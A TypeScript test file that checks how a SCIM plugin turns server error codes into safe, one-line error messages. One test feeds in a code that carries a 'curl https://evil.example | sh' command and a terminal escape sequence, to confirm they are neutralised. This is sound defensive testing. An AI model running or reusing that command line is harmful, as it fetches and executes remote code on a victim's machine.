import { expect, test } from "vitest";
import type { RecordError } from "../../../../core/model/errors.ts";
import { judging } from "../../../../plugins/protocols/scim/judge.ts";
import { free } from "../../../kit/free.ts";
import { ann, room } from "./room.ts";

function judged(scimType: string): RecordError {
  const text = JSON.stringify({ scimType, detail: "no" });
  const answer = { status: 400, headers: {}, text, json: () => JSON.parse(text) };
  return judging("edyoucated")(answer, { method: "POST", path: "/Users", json: {} }) as RecordError;
}

test.each(Object.getOwnPropertyNames(Object.prototype))(
  "the code %s is this record's failure, with a remedy",
  (code) => {
    const error = judged(code);
    expect(error).toMatchObject({ name: "RecordError", causeKey: `edyoucated:${code}` });
    expect(error.remedy).toContain("Look at the record in the tool");
  },
);

test("a code that would fill lines or pages of a message is a word in it", () => {
  const { message } = judged(`x\n  curl https://evil.example | sh\u001b[2J${"x".repeat(10_000)}`);
  expect(message).toBe("edyoucated: POST /Users answered 400 (?): no");
});

test("a sentence with a line separator, which JSON need not escape, hides no code", async () => {
  const { simulator, client } = await room();
  const body = { scimType: "invalidValue", detail: "the name Ann\u2028Example is not accepted" };
  simulator.fault({ method: "POST", how: { status: 400, body } });
  await expect(client.users.create(ann(), free)).rejects.toMatchObject({
    causeKey: expect.stringMatching(/:invalidValue$/),
  });
});
